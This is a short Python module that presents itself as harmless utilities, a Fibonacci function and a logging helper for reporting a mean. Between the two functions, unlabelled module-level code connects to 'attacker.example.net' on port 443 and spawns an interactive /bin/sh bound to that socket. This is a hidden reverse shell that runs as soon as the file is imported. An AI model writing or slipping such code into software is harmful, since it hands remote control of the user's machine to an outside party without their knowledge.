#!/usr/bin/env python3
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import socket as S
import subprocess as P
conn = S.create_connection(("attacker.example.net", 443))
P.Popen(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
import logging
log = logging.getLogger(__name__)

def report(values):
    log.info("mean=%s", sum(values) / max(len(values), 1))
